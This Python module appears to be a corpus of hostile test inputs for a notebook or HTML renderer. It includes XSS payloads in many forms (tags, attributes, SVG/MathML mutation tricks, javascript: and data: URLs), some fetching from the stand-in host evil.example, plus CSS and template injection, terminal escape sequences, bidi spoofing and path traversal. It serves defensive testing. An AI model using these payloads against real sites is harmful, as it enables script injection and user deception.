"""Text that wants to be more than text: what users, their data and their errors may bring along.

Whatever could run sets ``window.pwned``; whatever could be fetched lies at ``evil.example``.
"""

from __future__ import annotations

import itertools

import numpy as np

__all__ = ["ARTFUL", "CORPUS", "FAMILIES", "one_line"]

RUN = "window.pwned=1"
HOST = "//evil.example"

_TAGS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<script src={HOST}/x.js></script>",
    f"<SCRIPT\n>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}<!--",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<img src={HOST}/pixel.png>",
    f"<img srcset='{HOST}/a.png 1x'>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button onclick={RUN}>press</button>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={HOST}></iframe>",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href={HOST}>out</a>",
    f"<base href={HOST}/>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<link rel=prefetch href={HOST}/x>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    "<h1>a headline</h1>",
    "<table><tr><td>cell",
    "<plaintext>",
    "<xmp><b>x</b></xmp>",
    f"<portal src={HOST}></portal>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<x-element is=button onclick={RUN}>",
    f"<dialog open><form method=dialog onsubmit={RUN}>",
    f"<canvas onclick={RUN}>",
]
_ATTRIBUTES = [
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f" onmouseover={RUN} ",
    f'"/onmouseover={RUN}//',
    '" style="position:fixed;inset:0" x="',
    "' hidden='",
    '" id="jupyterlab-splash',
    '" data-jp-theme-light="false',
    '" class="jp-RenderedHTML',
    f'x"><script>{RUN}</script><x y="',
]
_CLOSING = [
    "</div></div></div></section><h1>out</h1>",
    "</pre></div><b>out</b>",
    "</progress><u>out</u>",
    "</span></b></code></summary></details>out",
    "</td></tr></table>out",
    "</option></select>out",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</iframe><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"--!><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"?><script>{RUN}</script>",
    "<!-- not closed",
    "<!--><b>x</b>",
    "<!DOCTYPE html><html>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "<?xml version='1.0'?><x/>",
    f"<?php {RUN} ?>",
    "<% x %>",
    "<",
    "<a",
    "<a ",
    "</",
    "<!",
    "<?",
    "&",
]
_VECTORS = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='{HOST}/x.js'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributename=x to=y></svg>",
    f"<svg><use href='{HOST}/x.svg#x'/></svg>",
    f"<svg><image href='{HOST}/x.png'/></svg>",
    f"<svg><foreignObject><iframe src='javascript:{RUN}'></foreignObject></svg>",
    f"<svg><style>@import '{HOST}/x.css';</style></svg>",
    f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    f"<img onerror={RUN} src>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<listing>&lt;img src=1 onerror={RUN}&gt;</listing>",
    f"<p id='</p><img src=x onerror={RUN}>'>",
]
_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://evil.example/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "https://evil.example/?q=1",
    "http://evil.example",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "file:///etc/passwd",
    "mailto:someone@evil.example",
    "blob:https://evil.example/1",
    "../../../../etc/passwd",
    "www.evil.example",
]
_STYLES = [
    "<style>*{display:none}</style>",
    f"<style>@import url({HOST}/x.css);</style>",
    f"<div style='background:url({HOST}/x.png)'>",
    f"}} body{{background:url({HOST}/x.png)}}",
    "} * { display: none !important } {",
    f"red;background:url({HOST}/x.png)",
    "expression(window.pwned=1)",
    "url('javascript:window.pwned=1')",
    "-moz-binding:url(//evil.example/x#x)",
    "#fff;position:fixed;inset:0;z-index:9999",
    "var(--jp-layout-color1)",
    "/* not closed",
    "*/ body { color: red } /*",
    "\\3c script\\3e",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "%s %d %(x)s {0} {x!r}",
    "`${window.pwned=1}`",
    "[[7*7]]",
    "@{7*7}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "innerHTML",
    "';window.pwned=1;'",
    '";window.pwned=1;"',
    "\\';window.pwned=1;//",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=window.pwned=1\\x3e",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
]
_ENTITIES = [
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&lt",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&shy;&zwj;",
    "&notanentity;",
    "&#0;",
    "&#x110000;",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "\ufeff<script>window.pwned=1</script>",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\u00bcscript\u00bewindow.pwned=1\u00bc/script\u00be",
    "a < b > c & d",
]
_MARKDOWN = [
    f"![x]({HOST}/x.png)",
    f"[x](javascript:{RUN})",
    f"[x]: {HOST}",
    f"<{HOST}>",
    "# a headline",
    "***",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\ncode",
    "- [ ] a task",
    "> quoted",
    f"[![x](x)](javascript:{RUN})",
    "**bold** _italic_ ~~gone~~",
]
_MATHS = [
    "$x^2$",
    "$$\\int_0^1$$",
    "\\(x\\) \\[y\\]",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\href{{https:{HOST}}}{{x}}$",
    "$\\require{html}\\style{position:fixed}{x}$",
    "$\\unicode{x3c}$",
    "\\begin{align}x\\end{align}",
    "$\\def\\x{\\x\\x}\\x$",
    "\\newcommand{\\a}{\\a}\\a",
]
_TERMINALS = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;a title\x07",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[38;2;255;0;0mtrue colour",
    "\x1b[8mhidden\x1b[28m",
    "\x1b]52;c;d2luZG93\x07",
    "\x1bP1$r0m\x1b\\",
    "\x9b31mred",
    "\x1b[",
    "\x1b]",
    "\x1b",
    "over\rwritten",
    "a\x08b\x08c",
    "bell\x07",
]
_CONTROLS = [
    "nul\x00nul",
    "del\x7f",
    "c1\x80\x9f",
    "vertical\x0btab",
    "form\x0cfeed",
    "two\nlines",
    "tab\tseparated",
    "next\x85line",
    "line\u2028separator",
    "paragraph\u2029separator",
    "zero\u200bwidth\u200cjoin\u200d\u2060",
    "soft\u00adhyphen",
    "\ufffe\uffff",
    "lone \ud800 surrogate",
    "\udc00low",
    "\U000e0041\U000e0042tags",
    "object\ufffcreplaced\ufffd",
]
_DIRECTIONS = [
    "\u202egnp.exe\u202c",
    "\u202dleft\u202c",
    "\u2066isolated\u2069",
    "\u2067right\u2069",
    "\u2068first\u2069",
    "\u200emark\u200f",
    "\u061carabic mark",
    "user\u202e \u2066// admin\u2069 \u2066",
    "\u05d0\u05d1\u05d2 <b> \u05d3",
    "\u0627\u0644\u0639 123",
]
_LONG = [
    "x" * 1_000_000,
    "x" * 20_000,
    "<" * 5_000,
    "<b>" * 3_000,
    "&amp;" * 3_000,
    "長い" * 3_000,
    "a " * 10_000,
    "\n" * 2_000,
    "Z\u0351\u036b\u0343" * 500,
    "👩\u200d👩\u200d👧\u200d👦" * 500,
    "[" * 2_000 + "]" * 2_000,
    "{'a': " * 1_000 + "1" + "}" * 1_000,
    "9" * 10_000,
    "\x1b[31m" * 1_000,
    "\u202e" * 1_000,
    "",
    " ",
]

FAMILIES = {
    "tags": _TAGS,
    "attributes": _ATTRIBUTES,
    "closing": _CLOSING,
    "vectors": _VECTORS,
    "addresses": _ADDRESSES,
    "styles": _STYLES,
    "templates": _TEMPLATES,
    "entities": _ENTITIES,
    "markdown": _MARKDOWN,
    "maths": _MATHS,
    "terminals": _TERMINALS,
    "controls": _CONTROLS,
    "directions": _DIRECTIONS,
    "long": _LONG,
}
CORPUS = list(dict.fromkeys(itertools.chain.from_iterable(FAMILIES.values())))


def one_line(text: str) -> str:
    """``text`` as it may stand in a name: short, in one line, without control characters."""
    return "".join(c for c in text if c.isprintable())[:100] or "-"


class _Raising:
    def __repr__(self) -> str:
        raise RuntimeError("<img src=x onerror=window.pwned=1>")


class _Tagged:
    def __repr__(self) -> str:
        return "<img src=x onerror=window.pwned=1>\x1b[31m"

    _repr_html_ = None


class _Vast:
    def __repr__(self) -> str:
        return "<b>" * 1_000_000


def _deep() -> list[object]:
    inner: list[object] = []
    for _ in range(200):
        inner = [inner]
    return inner


#: values that are hostile by what they are
ARTFUL: dict[str, object] = {
    "raises": _Raising(),
    "tagged": _Tagged(),
    "deep": _deep(),
    "huge": 10**5_000,  # Python itself refuses to write it
    "vast": _Vast(),
    "numpy": np.array(["<script>window.pwned=1</script>", "\x1b[31m"]),
    "keys": {"<script>window.pwned=1</script>": "<img src=x onerror=window.pwned=1>"},
    "bytes": b"<script>\x00\xff",
}
